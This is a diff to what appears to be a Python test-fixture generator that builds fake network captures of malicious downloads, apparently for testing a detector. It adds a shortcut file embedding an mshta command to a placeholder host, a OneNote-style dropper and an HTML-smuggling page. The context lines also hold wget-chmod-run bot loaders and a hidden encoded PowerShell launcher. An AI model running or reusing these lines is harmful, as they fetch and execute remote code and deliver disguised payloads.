@@ -56,6 +56,11 @@ def downloads() -> Capture:
     elf = b"\x7fELF\x02\x01\x01" + bytes(57) + bytes(120) + b"UPX!" + random.Random(8).randbytes(2000)
     picture = b"GIF89a\x01\x00\x01\x00" + bytes(64) + _pe([b".text"], 800)
     rtf = b"{\\rtf1{\\object\\objemb{\\*\\objdata 01050000020000000b0000004571756174696f6e2e3300}}}"
+    shortcut = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(56)
+    shortcut += "mshta http://files.example.net/a.hta".encode("utf-16-le")
+    batch = b"@echo off\r\nrem it does nothing\r\n"
+    note = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1008)
+    note += bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", len(batch)) + bytes(12) + batch
     capture = Capture()
     pages = [
         get("/tools/setup.exe", response(ordinary, headers=OCTETS)),
@@ -64,6 +69,8 @@ def downloads() -> Capture:
         get("/bins/x86", response(elf, headers=OCTETS)),
         get("/logo.gif", response(picture, headers={"Content-Type": "image/gif"})),
         get("/invoice.doc", response(rtf, headers={"Content-Type": "application/msword"})),
+        get("/invoice.pdf.lnk", response(shortcut, headers=OCTETS)),
+        get("/invoice.one", response(note, headers={"Content-Type": "application/onenote"})),
     ]
     for number, page in enumerate(pages):
         visit(capture, [page], WORKSTATION, 50600 + number)
@@ -105,6 +112,11 @@ def scripts() -> Capture:
         f"wget http://{ATTACKER}/bot.{cpu}; chmod 777 bot.{cpu}; ./bot.{cpu}; rm -rf bot.{cpu}\n".encode()
         for cpu in ("mips", "mpsl", "arm7", "x86")
     )
+    archive = base64.b64encode(b"PK\x03\x04\x14" + random.Random(11).randbytes(200))
+    page = (
+        b'<html><script>var d = atob("' + archive + b'"), a = document.createElement("a");\n'
+        b'a.href = URL.createObjectURL(new Blob([d])); a.download = "order.zip"; a.click();</script></html>'
+    )
     gadget = b"\xac\xed\x00\x05sr\x00:org.apache.commons.collections.functors.InvokerTransformer" + bytes(40)
     capture = Capture()
     install = b"#!/bin/sh\nwget http://203.0.113.80/tea.x86_64 && chmod +x tea.x86_64\n"
@@ -116,6 +128,7 @@ def scripts() -> Capture:
         get("/run.bat", response(b"powershell -nop -w hidden -enc " + encoded + b"\r\n", headers=TEXT)),
         get("/update.vbs", response(dropper, headers=TEXT)),
         get("/bins.sh", response(bots, headers=TEXT)),
+        get("/order.html", response(page)),
     ]
     for number, exchange in enumerate(served):
         visit(capture, [exchange], WORKSTATION, 50800 + number, 80, ATTACKER)
